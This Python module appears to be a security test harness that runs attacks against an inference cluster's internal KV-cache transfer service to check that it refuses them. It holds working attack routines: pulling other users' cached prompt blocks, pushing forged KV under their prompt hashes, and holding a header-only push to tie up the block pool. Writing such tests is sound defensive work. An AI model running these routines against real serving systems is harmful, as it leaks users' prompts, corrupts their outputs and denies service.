"""Attacks on a worker's internal endpoints, run by an attacker with no
secret: the KV transfer service (pull a cached block, push forged KV,
reserve a pool with a header-only push) and the output streams (log in,
take over a router id). benchkit/attacker.py runs them in a process of
their own; each returns an ``Outcome``.

The attacker knows what a network attacker can know: the endpoints'
addresses, the public model (its KV layout and fingerprint, hence the block
hashes of any token ids) and the protocol (this repository). It speaks the
protocols itself (plain gRPC channels, its own handshake client) with no
credential: no call signature, and the empty key for the handshake's MAC.

The insider variant (``secret`` given) holds the cluster secret: its calls
carry a valid call MAC (net/security.py's signing channel) and its output
stream login succeeds, but it has no router grant (net/grants.py), so each
transfer it asks for must still be refused (PERMISSION_DENIED).
"""

from __future__ import annotations

import asyncio
import json
import secrets
from collections.abc import Callable, Sequence

import grpc
import numpy as np

from benchkit.attack_outcome import Outcome
from engine.hashing import hash_blocks, root_hash
from engine.kv_layout import KVLayout
from kv_transfer import wire
from kv_transfer.datachannel import PUSH_REFUSED_KEY
from kv_transfer.grpc_server import HELD_BLOCKS_KEY, PULL_METHOD, PUSH_METHOD
from net.security import ClusterSecurity
from protos.tandem.v1 import kv_transfer_pb2 as pb

UNLIMITED = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]


def prompt_hashes(layout: KVLayout, token_ids: Sequence[int]) -> list[bytes]:
    """The prefix-cache hashes of ``token_ids``' full blocks (default domain)."""
    root = root_hash(layout.model_fingerprint, layout.block_size)
    return list(hash_blocks(token_ids, layout.block_size, root))


def _channel(address: str, secret: bytes | None) -> grpc.aio.Channel:
    """A plain channel (no TLS); with ``secret``, every call carries its MAC."""
    if secret is None:
        return grpc.aio.insecure_channel(address, options=UNLIMITED)
    return ClusterSecurity(secret).channel(address, UNLIMITED)


def _refused(e: grpc.aio.AioRpcError) -> Outcome:
    return Outcome(e.code().name, (e.details() or "")[:200])


async def pull(
    kv_address: str, layout: KVLayout, token_ids: Sequence[int], secret: bytes | None = None
) -> Outcome:
    """PullBlocks for the blocks of a prompt someone else sent (no grant)."""
    hashes = prompt_hashes(layout, token_ids)
    request = pb.PullRequest(
        layout=wire.layout_to_proto(layout), request_id="attacker-pull", block_hashes=hashes
    )
    header, nbytes = None, 0
    async with _channel(kv_address, secret) as channel:
        call = channel.unary_stream(
            PULL_METHOD,
            request_serializer=pb.PullRequest.SerializeToString,
            response_deserializer=wire.decode,
        )(request, timeout=60)
        try:
            async for msg in call:
                if isinstance(msg, pb.TransferHeader):
                    header = msg
                elif isinstance(msg, wire.Chunk):
                    nbytes += len(msg.data)
        except grpc.aio.AioRpcError as e:
            return _refused(e)
    if header is None:
        return Outcome("OK", "a stream without a header")
    return Outcome(
        "OK",
        f"{header.num_blocks} of {len(hashes)} blocks: {len(header.token_ids)} token ids "
        f"of the prompt and {nbytes} bytes of its KV",
    )


def decode_start(router_id: str, num_prompt_tokens: int) -> bytes:
    """What a decode worker starts a pushed request with (protocol/decode_start.py):
    one more token to decode, its outputs to ``router_id``."""
    start = {
        "router_id": router_id,
        "num_prompt_tokens": num_prompt_tokens,
        "params": {"temperature": 0.0, "max_tokens": 2, "ignore_eos": True},
    }
    return json.dumps(start).encode()


FIRST_TOKEN = json.dumps(
    {"text": "x", "logprobs": None, "num_cached_tokens": 0, "num_output_tokens": 1}
).encode()
"""The commit's first token (protocol/decode_start.py's FirstToken)."""


async def push(
    kv_address: str,
    layout: KVLayout,
    token_ids: Sequence[int],
    router_id: str,
    secret: bytes | None = None,
) -> Outcome:
    """PushBlocks of KV of the attacker's making (over the gRPC stream) under
    the hashes and tokens of a prompt other users will send, starting a
    request whose outputs go to ``router_id``."""
    hashes = prompt_hashes(layout, token_ids)
    n = len(hashes)
    header = pb.TransferHeader(
        layout=wire.layout_to_proto(layout),
        request_id=f"attacker-push-{secrets.token_hex(4)}",
        num_blocks=n,
        block_hashes=hashes,
        token_ids=token_ids[: n * layout.block_size],
        total_bytes=n * layout.block_bytes,
        decode_start=decode_start(router_id, n * layout.block_size),
    )
    async with _channel(kv_address, secret) as channel:
        call = channel.stream_unary(
            PUSH_METHOD,
            request_serializer=lambda b: b,
            response_deserializer=pb.PushReply.FromString,
        )(timeout=60)
        try:
            await call.write(wire.encode_header(header))
            metadata = dict(await call.initial_metadata() or ())
            if call.done() or PUSH_REFUSED_KEY in metadata:
                await call.done_writing()
                await call  # refused: raises with the server's status
            if int(metadata.get(HELD_BLOCKS_KEY, 0) or 0):
                call.cancel()
                return Outcome("OK", f"the worker holds {metadata[HELD_BLOCKS_KEY]} blocks already")
            for span in wire.plan_chunks(
                layout.num_layers, n, layout.block_bytes_per_layer, 4 << 20
            ):
                size = (span[1] - span[0]) * (span[3] - span[2]) * layout.block_bytes_per_layer
                await call.write(wire.encode_chunk(span, hashes[span[2] : span[3]], size, _forge))
            await call.write(wire.encode_commit([token_ids[-1]], FIRST_TOKEN))
            await call.done_writing()
            reply = await call
        except grpc.aio.AioRpcError as e:
            return _refused(e)
        except asyncio.InvalidStateError:  # a write after the server ended the call
            return Outcome((await call.code()).name, (await call.details() or "")[:200])
    return Outcome("OK", f"committed {len(reply.block_ids)} blocks of forged KV")


def _forge(payload: memoryview) -> None:
    """KV of the attacker's choosing: large random values."""
    values = np.random.default_rng(7).standard_normal(len(payload) // 4, dtype=np.float32) * 50
    payload[: values.nbytes] = values.tobytes()


async def reserve(
    kv_address: str,
    layout: KVLayout,
    num_blocks: int,
    hold_s: float,
    router_id: str,
    announce: Callable[[Outcome], None],
    secret: bytes | None = None,
) -> Outcome:
    """A push header for ``num_blocks`` blocks (a request for ``router_id``)
    and nothing after it. An accepted header is ``announce``d at once, then
    the call is held open for ``hold_s`` (while the caller looks at the pool)."""
    header = pb.TransferHeader(
        layout=wire.layout_to_proto(layout),
        request_id=f"attacker-reserve-{secrets.token_hex(4)}",
        num_blocks=num_blocks,
        total_bytes=num_blocks * layout.block_bytes,
        token_ids=[1] * (num_blocks * layout.block_size),
        decode_start=decode_start(router_id, num_blocks * layout.block_size),
    )
    channel = _channel(kv_address, secret)
    call = channel.stream_unary(
        PUSH_METHOD, request_serializer=lambda b: b, response_deserializer=pb.PushReply.FromString
    )(timeout=hold_s + 30)
    try:
        await call.write(wire.encode_header(header))
        metadata = dict(await call.initial_metadata() or ())
        if call.done() or PUSH_REFUSED_KEY in metadata:
            await call.done_writing()
            return Outcome((await call.code()).name, (await call.details() or "")[:200])
        announce(Outcome("OK", f"reserved {num_blocks} blocks, holding them {hold_s:.0f} s"))
        await asyncio.sleep(hold_s)
        return Outcome("OK", "held")
    except grpc.aio.AioRpcError as e:
        return Outcome(e.code().name, (e.details() or "")[:200])
    finally:
        call.cancel()
        await channel.close()
